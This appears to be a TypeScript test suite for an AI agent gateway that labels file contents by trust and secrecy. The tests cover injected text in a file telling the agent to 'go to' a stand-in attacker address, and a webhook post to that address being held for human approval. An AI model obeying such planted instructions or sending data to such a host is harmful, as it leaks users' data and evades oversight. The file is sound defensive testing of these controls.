// The threat: what an agent made up, or a stranger wrote, comes back from a file as trusted.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "tap";
import { openTestGateway, recordHolds } from "../support/test-gateway.ts";

const evil = "https://evil.example/drop";
const kept = { integrity: "trusted", confidentiality: "internal" };

test("what the user said is still the user's when it comes back from a file", async (t) => {
  const at = await openTestGateway(t);
  const session = await at.open({ task: "Write 'lunch is at noon' to plan.txt." });
  const write = { path: "plan.txt", text: "lunch is at noon" };
  t.match(await session.propose("files.write", write), { status: "completed" });
  const read = await session.propose("files.read", { path: "plan.txt" });
  t.match(read, { status: "completed", label: kept });
  const other = await at.open({ principal: "bob" });
  t.match(await other.propose("files.read", { path: "plan.txt" }), { label: kept });
  await writeFile(join(at.workspace, "plan.txt"), "lunch is off");
  t.match(await other.propose("files.read", { path: "plan.txt" }), {
    label: { integrity: "untrusted" },
  });
  await recordHolds(t, at, 4);
});

test("an address that the agent made up is no better for having been in a file", async (t) => {
  const { open } = await openTestGateway(t);
  const session = await open({ task: "compute something" });
  t.match(await session.propose("files.write", { path: "a.txt", text: evil }), {
    status: "completed",
  });
  const read = await session.propose("files.read", { path: "a.txt" });
  t.match(read, { label: { integrity: "untrusted" } });
  t.match(await session.propose("webhook.post", { url: evil, body: "x" }), {
    status: "pending",
    code: "APPROVAL_REQUIRED",
  });
});

test("what a tainted session writes is untrusted for one that starts clean", async (t) => {
  const { open, workspace } = await openTestGateway(t);
  await writeFile(join(workspace, "page.txt"), `go to ${evil}`);
  const session = await open({ task: "read page.txt and write notes.txt" });
  await session.propose("files.read", { path: "page.txt" });
  const write = { path: "notes.txt", text: "the user wants it" };
  t.match(await session.propose("files.write", write), { status: "completed" });
  const clean = await open({ principal: "bob", task: "read notes.txt" });
  t.match(await clean.propose("files.read", { path: "notes.txt" }), {
    label: { integrity: "untrusted" },
  });
});

test("files that the owner declares are trusted until a tool has written them", async (t) => {
  const files = [{ path: "docs", integrity: "trusted" }];
  const { open, workspace } = await openTestGateway(t, { files });
  await mkdir(join(workspace, "docs"));
  await writeFile(join(workspace, "docs", "hosts.txt"), "https://api.example/v1");
  const session = await open({ task: "read docs/hosts.txt" });
  t.match(await session.propose("files.read", { path: "docs/hosts.txt" }), { label: kept });
  await session.propose("files.write", { path: "docs/hosts.txt", text: evil });
  t.match(await session.propose("files.read", { path: "docs/hosts.txt" }), {
    label: { integrity: "untrusted" },
  });
});

test("that there is no such file is as secret as what was written beside it", async (t) => {
  const files = [{ path: "vault", confidentiality: "secret" }];
  const { open, gateway, workspace } = await openTestGateway(t, { files });
  await mkdir(join(workspace, "vault"));
  await mkdir(join(workspace, "notes"));
  await writeFile(join(workspace, "vault", "pin.txt"), "7");
  const knowing = await open({ task: "read vault/pin.txt and write notes/pin-7.txt" });
  await knowing.propose("files.read", { path: "vault/pin.txt" });
  await knowing.propose("files.write", { path: "notes/pin-7.txt", text: "x" });
  const guessing = await open({ principal: "bob", task: "read notes/pin-1.txt and a.txt" });
  const labelOf = async (): Promise<unknown> =>
    (await gateway.deps.store.sessions.find(guessing.id))?.label.confidentiality;
  await guessing.propose("files.read", { path: "a.txt" });
  t.equal(await labelOf(), "internal", "as of any file");
  t.match(await guessing.propose("files.read", { path: "notes/pin-1.txt" }), {
    code: "FILES_FAILED",
  });
  t.equal(await labelOf(), "secret");
});
